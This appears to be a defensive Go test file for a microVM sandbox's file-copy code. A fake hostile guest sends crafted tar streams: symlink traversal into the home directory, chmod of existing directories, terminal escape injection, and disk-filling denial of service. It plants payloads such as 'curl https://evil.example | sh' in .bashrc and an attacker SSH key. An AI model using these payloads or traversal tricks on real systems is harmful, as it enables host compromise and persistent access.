package mvm

// Attacks on copyOut and place by a hostile guest. No VM boots: an
// in-process fake agent answers Hello, Stat and CopyOut on a socketpair
// with whatever the test wants the guest to send. Each test is an attack
// that must stay contained; its comment says what it tried and what
// defends against it.

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"golang.org/x/sys/unix"

	agentpb "github.com/mvm-sh/mvm/api/agent/v1"
	"github.com/mvm-sh/mvm/internal/agentclient"
	"github.com/mvm-sh/mvm/internal/agentproto"
	"github.com/mvm-sh/mvm/internal/mux"
	"github.com/mvm-sh/mvm/internal/treecopy"
)

// attackGuest is what the fake guest answers.
type attackGuest struct {
	mode    uint32 // Stat's st_mode for any path
	stream  []byte // CopyOut's data
	failMsg string // if set, CopyOut ends with this error after stream
}

type attackFiles struct{ c *agentclient.Client }

func (f attackFiles) agent() (*agentclient.Client, func(), error) { return f.c, func() {}, nil }

func attackConnect(t *testing.T, g attackGuest) attackFiles {
	t.Helper()
	fds, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	var conns [2]net.Conn
	for i, fd := range fds {
		f := os.NewFile(uintptr(fd), "socketpair")
		c, err := net.FileConn(f)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		conns[i] = c
	}
	sess := mux.Server(conns[1], agentproto.SessionConfig())
	go func() {
		for {
			st, err := sess.Accept()
			if err != nil {
				return
			}
			go attackServe(st, g)
		}
	}()
	c, err := agentclient.Dial(conns[0])
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close(); sess.Close(); conns[0].Close(); conns[1].Close() })
	return attackFiles{c}
}

func attackServe(st *mux.Stream, g attackGuest) {
	defer st.Close()
	var req agentpb.Request
	if err := agentproto.NewReader(st).Read(&req); err != nil {
		return
	}
	switch call := req.Call.(type) {
	case *agentpb.Request_Hello:
		_ = agentproto.Write(st, &agentpb.Response{Result: &agentpb.Response_Hello{Hello: &agentpb.HelloReply{
			Version: agentproto.Version, AgentVersion: "hostile", Capabilities: []string{agentproto.CapFiles},
		}}})
	case *agentpb.Request_Stat:
		_ = agentproto.Write(st, &agentpb.Response{Result: &agentpb.Response_Stat{Stat: &agentpb.StatReply{
			Info: &agentpb.FileInfo{Name: filepath.Base(call.Stat.Path), Mode: g.mode, MtimeUnixNano: time.Now().UnixNano()},
		}}})
	case *agentpb.Request_CopyOut:
		w := agentproto.NewFileDataWriter(st)
		_, _ = w.Write(g.stream)
		if g.failMsg != "" {
			_ = w.Fail(agentpb.Error_CODE_INTERNAL, errors.New(g.failMsg))
			return
		}
		_ = w.Close()
	}
}

type attackEntry struct {
	hdr  tar.Header
	body string
}

func aDir(n string, mode int64) attackEntry {
	return attackEntry{hdr: tar.Header{Name: n, Typeflag: tar.TypeDir, Mode: mode}}
}
func aFile(n, body string) attackEntry {
	return attackEntry{hdr: tar.Header{Name: n, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}, body: body}
}
func aLink(n, target string) attackEntry {
	return attackEntry{hdr: tar.Header{Name: n, Typeflag: tar.TypeSymlink, Linkname: target, Mode: 0o777}}
}

func attackTar(t *testing.T, entries ...attackEntry) []byte {
	t.Helper()
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		e.hdr.Format = tar.FormatPAX
		if err := tw.WriteHeader(&e.hdr); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func attackMust(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func attackLeftovers(t *testing.T, dir string) []string {
	t.Helper()
	m, _ := filepath.Glob(filepath.Join(dir, ".mvm-cp-*"))
	return m
}

const dirMode = syscall.S_IFDIR | 0o755

// Attack (escape, critical). `mvmctl sandbox cp NAME:/out ~/`: copyOut
// opens its os.Root at the destination's parent (~) and extracts into
// ~/.mvm-cp-*/x. The guest sends a link "./l" -> "../.." (which resolves
// to ~ and so stays inside that root) and then "./l/.bashrc",
// "./l/.ssh/authorized_keys": both land in the user's home, before the
// copy is even complete, and stay there whatever happens next; a
// directory entry through the link also gets its (guest-chosen) mode
// applied to an existing host directory. Defence: open the root at the
// staging directory itself for Extract (os.OpenRoot(staging)), and have
// Extract refuse an entry whose parent path goes through a non-directory
// (a link the stream made), as docker does.
func TestAttackCopyOutSymlinkOverwritesParent(t *testing.T) {
	home := t.TempDir()
	attackMust(t, os.WriteFile(filepath.Join(home, ".bashrc"), []byte("safe\n"), 0o644))
	attackMust(t, os.Mkdir(filepath.Join(home, ".ssh"), 0o700))
	g := attackGuest{mode: dirMode, stream: attackTar(t,
		aDir(".", 0o755),
		aLink("./l", "../.."),
		aFile("./l/.bashrc", "curl https://evil.example | sh\n"),
		aDir("./l/.ssh", 0o777),
		aFile("./l/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n"),
		aFile("./innocent.txt", "hello\n"),
	)}
	st, err := copyOut(context.Background(), attackConnect(t, g), "/out", home+"/", CopyOptions{})
	t.Logf("copyOut: %+v, %v", st, err)
	if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "safe\n" {
		t.Errorf("the guest rewrote ~/.bashrc: %q", b)
	}
	if b, err := os.ReadFile(filepath.Join(home, ".ssh/authorized_keys")); err == nil {
		t.Errorf("the guest wrote ~/.ssh/authorized_keys: %q", b)
	}
	if fi, _ := os.Stat(filepath.Join(home, ".ssh")); fi.Mode().Perm() != 0o700 {
		t.Errorf("the guest made ~/.ssh %v", fi.Mode().Perm())
	}
}

// Attack (escape of permissions, medium). `mvmctl sandbox cp
// NAME:/out/. ~/proj` (or any copy whose target is an existing host
// directory): place merges, then chmods the existing host directory to
// the mode the guest sent for ".", here 0777, making the user's directory
// world-writable (or 0000, locking the user out). docker and tar do apply
// a directory's mode on merge, but here the sender is hostile: keep an
// existing directory's mode (apply guest modes only to what the copy
// created), or at least mask them with the user's umask / never add
// group/other write.
func TestAttackCopyOutChmodsExistingDirectory(t *testing.T) {
	proj := filepath.Join(t.TempDir(), "proj")
	attackMust(t, os.Mkdir(proj, 0o700))
	g := attackGuest{mode: dirMode, stream: attackTar(t, aDir(".", 0o777), aFile("./a", "x"))}
	_, err := copyOut(context.Background(), attackConnect(t, g), "/out/.", proj, CopyOptions{})
	attackMust(t, err)
	if fi, _ := os.Stat(proj); fi.Mode().Perm() != 0o700 {
		t.Errorf("the guest made the existing host directory %v (was drwx------)", fi.Mode().Perm())
	}
}

// Attack (cosmetic / terminal injection). The guest's error message (a
// CopyOut FileData error, a Stat error, or an entry name that Extract's
// errors print with %s) reaches the user's terminal raw: guestError
// returns re.Message as is and cmd/mvmctl prints err.Error(). ESC
// sequences can retitle the terminal, clear the screen, or fake a
// "Successfully copied" line. Defence: quote (%q) or strip control characters
// from every guest-supplied string in errors (guestError, and Extract's
// "%s" of target).
func TestAttackCopyOutErrorCarriesControlChars(t *testing.T) {
	evil := "\x1b]0;owned\x07\x1b[2K\rSuccessfully copied 1kB (1 files) to /tmp/x in 1ms\n"
	for _, g := range []attackGuest{
		{mode: dirMode, stream: attackTar(t, aDir(".", 0o755)), failMsg: evil},
		// A conflict: the entry "./d" twice, as a directory then as a
		// file; the error names the target with %s.
		{mode: dirMode, stream: attackTar(t, aDir(".", 0o755), aDir("./d\x1b[2J", 0o755), aFile("./d\x1b[2J", "x"))},
	} {
		_, err := copyOut(context.Background(), attackConnect(t, g), "/out", filepath.Join(t.TempDir(), "dst"), CopyOptions{})
		if err == nil {
			t.Fatal("no error")
		}
		if i := strings.IndexFunc(err.Error(), unicode.IsControl); i >= 0 {
			t.Errorf("the error carries a control character from the guest: %q", err.Error())
		}
	}
}

// Attack (DoS, non-root hosts). The guest can make the staging directory
// impossible to remove: it sends "./a" (0700), "./a/b", then "./a" again
// with mode 0000. Extract sets modes last-entry-first, so "a" becomes
// 0000 before "a/b" is chmodded; that Chmod fails with EACCES, Extract
// fails, and copyOut's root.RemoveAll(stg) cannot enter "a": the
// ".mvm-cp-*" directory, with everything received so far (up to the
// limit, 16 GiB by default), stays in the user's directory. Each retry
// leaves another; the free-space check then shrinks the limit towards 0,
// which Extract reads as "no limit" (see
// TestAttackCopyOutNoLimitWhenDiskNearlyFull). As root, mode bits do not
// stop RemoveAll and the copy succeeds. Defence: record each directory once
// (ignore a repeated entry's mode or refuse duplicates), and before
// RemoveAll on failure chmod u+rwx the staging tree (through the root).
// When run as root, the test re-runs itself as nobody.
func TestAttackCopyOutStagingUnremovable(t *testing.T) {
	if os.Getenv("MVM_ATTACK_CHILD") == "" && os.Geteuid() == 0 {
		attackRerunAsNobody(t, "TestAttackCopyOutStagingUnremovable")
		return
	}
	parent := os.Getenv("MVM_ATTACK_DIR")
	if parent == "" {
		parent = t.TempDir()
	}
	big := strings.Repeat("x", 1<<20)
	g := attackGuest{mode: dirMode, stream: attackTar(t,
		aDir(".", 0o755),
		aDir("./a", 0o700),
		aDir("./a/b", 0o700),
		aFile("./a/b/payload", big),
		aDir("./a", 0o000),
	)}
	_, err := copyOut(context.Background(), attackConnect(t, g), "/out", filepath.Join(parent, "dst"), CopyOptions{})
	t.Logf("copyOut: %v", err)
	if left := attackLeftovers(t, parent); len(left) > 0 {
		t.Errorf("the staging directory could not be removed: %v", left)
		for _, l := range left { // let t.TempDir clean up
			_ = filepath.WalkDir(l, func(p string, d fs.DirEntry, err error) error {
				_ = os.Chmod(p, 0o700)
				return nil
			})
			_ = os.Chmod(filepath.Join(l, "x/a"), 0o700)
			_ = os.RemoveAll(l)
		}
	}
	if err == nil {
		fi, _ := os.Lstat(filepath.Join(parent, "dst/a"))
		t.Logf("copy succeeded; dst/a is %v", fi.Mode())
		_ = os.Chmod(filepath.Join(parent, "dst/a"), 0o700)
	}
}

// attackRerunAsNobody runs the test named in a copy of this test binary
// as uid/gid 65534, in a directory nobody may write.
func attackRerunAsNobody(t *testing.T, name string) {
	t.Helper()
	exe, err := os.Executable()
	attackMust(t, err)
	bin := t.TempDir()
	attackMust(t, os.Chmod(bin, 0o755))
	b, err := os.ReadFile(exe)
	attackMust(t, err)
	attackMust(t, os.WriteFile(filepath.Join(bin, "t.test"), b, 0o755))
	work := t.TempDir()
	attackMust(t, os.Chmod(work, 0o777))
	attackMust(t, os.Chmod(filepath.Dir(work), 0o755))
	cmd := exec.Command(filepath.Join(bin, "t.test"), "-test.run=^"+name+"$", "-test.count=1", "-test.v")
	cmd.Dir = work
	cmd.Env = append(os.Environ(), "MVM_ATTACK_CHILD=1", "MVM_ATTACK_DIR="+work, "HOME="+work, "TMPDIR="+work)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	t.Logf("as nobody:\n%s", out)
	// What nobody left, removable by root.
	if err != nil {
		t.Errorf("failed as nobody: %v", err)
	}
}

// Attack: the destination's filesystem has less than copyReserve (256
// MiB) free (DoS). copyOut computes limit = max(0, min(limit, free -
// copyReserve)) and passes it as Limits.MaxBytes, where 0 means NO bound:
// on a nearly full disk the guest may fill it to the last byte (and keep
// it full by stalling the stream). Defence: refuse the copy (ErrCopyLimit)
// when the computed limit is <= 0, or pass a minimum of 1 / a separate
// "zero means zero" flag. Skipped unless MVM_ATTACK_SMALLFS (or TMPDIR)
// is on a filesystem with under 256 MiB free; as root, for instance:
//
//	go test -c -o /tmp/mvm.test . && mkdir -p /tmp/smallfs &&
//	unshare -m sh -c 'mount -t tmpfs -o size=64m tmpfs /tmp/smallfs &&
//	  MVM_ATTACK_SMALLFS=/tmp/smallfs /tmp/mvm.test -test.run AttackCopyOutNoLimit -test.v'
//
// which fails with "with 67108864 bytes free (under the 268435456
// reserve), a 33554432 byte copy was not refused".
func TestAttackCopyOutNoLimitWhenDiskNearlyFull(t *testing.T) {
	dir := os.Getenv("MVM_ATTACK_SMALLFS")
	if dir == "" {
		dir = t.TempDir()
	}
	var sfs unix.Statfs_t
	attackMust(t, unix.Statfs(dir, &sfs))
	free := int64(sfs.Bavail) * sfs.Bsize
	if free >= copyReserve {
		t.Skipf("%s has %d bytes free, over the %d reserve: run on a small filesystem", dir, free, copyReserve)
	}
	// A file a little smaller than what is free: with a working reserve
	// it must be refused at its header.
	size := free / 2
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	attackMust(t, tw.WriteHeader(&tar.Header{Name: ".", Typeflag: tar.TypeReg, Mode: 0o644, Size: size, Format: tar.FormatPAX}))
	_, _ = tw.Write(make([]byte, size))
	attackMust(t, tw.Close())
	g := attackGuest{mode: syscall.S_IFREG | 0o644, stream: buf.Bytes()}
	dst := filepath.Join(dir, "fill")
	defer os.Remove(dst)
	st, err := copyOut(context.Background(), attackConnect(t, g), "/out", dst, CopyOptions{})
	if !errors.Is(err, ErrCopyLimit) {
		t.Errorf("with %d bytes free (under the %d reserve), a %d byte copy was not refused: %+v, %v", free, copyReserve, size, st, err)
	}
}

// Contained: the rest of copyOut against a hostile guest.
func TestAttackCopyOutContained(t *testing.T) {
	t.Run("over the limit leaves nothing", func(t *testing.T) {
		parent := t.TempDir()
		g := attackGuest{mode: dirMode, stream: attackTar(t, aDir(".", 0o755), aFile("./a", strings.Repeat("x", 4096)), aFile("./b", strings.Repeat("x", 4096)))}
		_, err := copyOut(context.Background(), attackConnect(t, g), "/out", filepath.Join(parent, "dst"), CopyOptions{Limit: 6000})
		if !errors.Is(err, ErrCopyLimit) {
			t.Errorf("error %v, want ErrCopyLimit", err)
		}
		if ents, _ := os.ReadDir(parent); len(ents) != 0 {
			t.Errorf("left %v", ents)
		}
	})
	t.Run("guest error midway leaves nothing", func(t *testing.T) {
		parent := t.TempDir()
		g := attackGuest{mode: dirMode, stream: attackTar(t, aDir(".", 0o755), aFile("./a", "x"))[:1024], failMsg: "boom"}
		if _, err := copyOut(context.Background(), attackConnect(t, g), "/out", filepath.Join(parent, "dst"), CopyOptions{}); err == nil {
			t.Error("no error")
		}
		if ents, _ := os.ReadDir(parent); len(ents) != 0 {
			t.Errorf("left %v", ents)
		}
	})
	t.Run("guest lies in Stat: says file, sends a dir over an existing file", func(t *testing.T) {
		parent := t.TempDir()
		dst := filepath.Join(parent, "f")
		attackMust(t, os.WriteFile(dst, []byte("keep"), 0o644))
		g := attackGuest{mode: syscall.S_IFREG | 0o644, stream: attackTar(t, aDir(".", 0o755), aFile("./a", "x"))}
		if _, err := copyOut(context.Background(), attackConnect(t, g), "/out", dst, CopyOptions{}); err == nil {
			t.Error("a directory replaced a file")
		}
		if b, _ := os.ReadFile(dst); string(b) != "keep" {
			t.Errorf("file changed: %q", b)
		}
		if left := attackLeftovers(t, parent); len(left) > 0 {
			t.Errorf("left %v", left)
		}
	})
	t.Run("absolute and dotdot links never followed", func(t *testing.T) {
		parent := t.TempDir()
		g := attackGuest{mode: dirMode, stream: attackTar(t, aDir(".", 0o755), aLink("./l", "/"), aFile("./l/tmp/mvm-attack-escape", "x"),
			aLink("./m", "../../.."), aFile("./m/mvm-attack-escape", "x"))}
		_, err := copyOut(context.Background(), attackConnect(t, g), "/out", filepath.Join(parent, "dst"), CopyOptions{})
		if err == nil {
			t.Error("accepted")
		}
		for _, p := range []string{"/tmp/mvm-attack-escape", filepath.Join(filepath.Dir(parent), "mvm-attack-escape")} {
			if _, err := os.Lstat(p); err == nil {
				os.Remove(p)
				t.Errorf("wrote %s", p)
			}
		}
	})
	t.Run("read file: size over the limit refused at the header", func(t *testing.T) {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		attackMust(t, tw.WriteHeader(&tar.Header{Name: ".", Typeflag: tar.TypeReg, Size: 1 << 40, Format: tar.FormatPAX}))
		g := attackGuest{mode: syscall.S_IFREG | 0o644, stream: buf.Bytes()}
		var out bytes.Buffer
		_, err := readGuestFile(context.Background(), attackConnect(t, g), "/f", &out, CopyOptions{Limit: 1 << 20})
		if !errors.Is(err, ErrCopyLimit) || out.Len() != 0 {
			t.Errorf("error %v, %d bytes written", err, out.Len())
		}
	})
}

// Contained: place never writes through a link the user has in the
// destination. A staged directory meeting a host link is a conflict; a
// staged file replaces the link itself, not its target.
func TestAttackPlaceDoesNotFollowHostLinks(t *testing.T) {
	parent := t.TempDir()
	outside := t.TempDir()
	attackMust(t, os.WriteFile(filepath.Join(outside, "passwd"), []byte("keep"), 0o644))
	attackMust(t, os.MkdirAll(filepath.Join(parent, "stg/x/sub"), 0o755))
	attackMust(t, os.WriteFile(filepath.Join(parent, "stg/x/sub/passwd"), []byte("evil"), 0o644))
	attackMust(t, os.WriteFile(filepath.Join(parent, "stg/x/f"), []byte("evil"), 0o644))
	attackMust(t, os.Mkdir(filepath.Join(parent, "dst"), 0o755))
	attackMust(t, os.Mkdir(filepath.Join(parent, "sibling"), 0o755))
	attackMust(t, os.Symlink(outside, filepath.Join(parent, "dst/sub")))
	attackMust(t, os.Symlink("../sibling/f", filepath.Join(parent, "dst/f")))
	root, err := os.OpenRoot(parent)
	attackMust(t, err)
	defer root.Close()
	err = place(root, "stg/x", "dst")
	t.Logf("place: %v", err)
	if !errors.Is(err, treecopy.ErrConflict) {
		t.Errorf("a staged directory over the host's link: %v, want ErrConflict", err)
	}
	if b, _ := os.ReadFile(filepath.Join(outside, "passwd")); string(b) != "keep" {
		t.Errorf("written through the host's link: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(parent, "sibling/f")); err == nil {
		t.Error("written through the host's relative link")
	}
}
